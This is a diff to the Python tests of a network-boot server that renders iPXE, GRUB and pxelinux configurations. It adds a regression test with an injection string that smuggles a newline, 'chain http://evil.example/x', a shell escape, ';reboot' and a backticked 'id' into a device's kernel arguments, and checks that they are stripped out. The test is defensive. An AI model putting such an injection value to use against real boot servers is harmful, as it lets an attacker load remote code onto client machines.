@@ -11,6 +11,8 @@ from bootserverd.model.objects import Defaults, Device, School
 from bootserverd.model.objects import InventoryRecords
 from bootserverd.model.snapshot import Inventory, Model
 from bootserverd.boot.resolver import BootResolver
+from tests.fuzz import world
+from bootserverd.model.objects import Device
 
 KNOWN = "52:54:00:00:00:01"
 DUAL = "52:54:00:00:00:02"
@@ -109,13 +111,13 @@ def test_errors_render_as_a_menu_that_says_what_is_wrong(mac, message):
 
 def test_no_image_anywhere_is_an_error_menu():
     resolver = make_resolver()
-    resolver.model.update(directory=InventoryRecords((Device(KNOWN),), {}, Defaults()))
+    resolver.model.update(records=InventoryRecords((Device(KNOWN),), {}, Defaults()))
     assert "no image is assigned to 52:54:00:00:00:01" in resolver.render("ipxe", KNOWN, "x").decode()
 
 
 def test_change_in_the_model_is_live():
     resolver = make_resolver()
-    resolver.model.update(directory=InventoryRecords((Device(KNOWN, image="other-img"),), {}, Defaults()))
+    resolver.model.update(records=InventoryRecords((Device(KNOWN, image="other-img"),), {}, Defaults()))
     assert "nbdroot=10.0.0.1:10809/other-img" in resolver.render("pxelinux.cfg", KNOWN, "x").decode()
 
 
@@ -146,3 +148,41 @@ def test_nbdroot_is_the_form_debians_initramfs_reads():
     srv = nbdroot.split(":")[0].split("/")[0]
     port, _, name = nbdroot[len(srv) + 1:].partition("/")
     assert (srv, port, name) == ("10.0.0.1", "10809", IMAGE)
+
+
+
+def test_ipxe_rom_runs_the_configured_non_ipxe_loader():
+    loaders = dataclasses.replace(BootConfig().loaders, bios="pxelinux.0", efi64="grubnetx64.efi")
+    resolver = make_resolver(boot=BootConfig(loaders=loaders))
+    assert resolver.resolve(KNOWN, 0, ipxe=True).bootfile == "pxelinux.0"
+    assert resolver.resolve(KNOWN, 7, ipxe=True).bootfile == "grubnetx64.efi"
+    assert make_resolver().resolve(KNOWN, 0, ipxe=True).bootfile.endswith(".ipxe")
+
+
+# -- regression (fuzz_ldap): kernel arguments from the directory went verbatim into boot
+# scripts, so a newline (or iPXE's `||`, GRUB's `;`) in puavoDeviceKernelArguments added a
+# command to the iPXE/GRUB/pxelinux config. Fixed in bootserverd/resolver.py (cmdline).
+
+EVIL = "quiet\nchain http://evil.example/x splash || shell ;reboot ${x} \x01ok `id`"
+
+
+def test_kernel_arguments_cannot_add_a_command():
+    device = Device("52:54:00:aa:00:09", hostname="pupil-1", kernel_args=EVIL)
+    resolver = world.make_resolver(devices=(device,))
+    line = resolver.cmdline(world.IMAGE, device)
+    # every word stays a kernel argument; the separators and expansions are gone
+    assert line.endswith(" quiet chain http://evil.example/x splash shell ok")
+    ipxe = resolver.render("ipxe", device.mac, "10.0.0.5").decode().splitlines()
+    kernel = [l for l in ipxe if l.startswith("kernel ")]
+    assert len(kernel) == 1 and kernel[0].endswith(line + " || goto netboot_failed")
+    assert not any(l.startswith("chain") for l in ipxe)
+    for fmt in ("grub.cfg", "pxelinux.cfg"):
+        text = resolver.render(fmt, device.mac, "10.0.0.5").decode()
+        assert not any(l.lstrip().startswith(("chain", "reboot")) for l in text.splitlines())
+        assert "\x01" not in text and "${x}" not in text and ";reboot" not in text
+
+
+def test_ordinary_kernel_arguments_unchanged():
+    device = Device("52:54:00:aa:00:0a", kernel_args="quiet splash acpi_osi=Linux i915.modeset=1 a,b=c:d/e")
+    line = world.make_resolver(devices=(device,)).cmdline(world.IMAGE, device)
+    assert line.endswith("quiet splash acpi_osi=Linux i915.modeset=1 a,b=c:d/e")
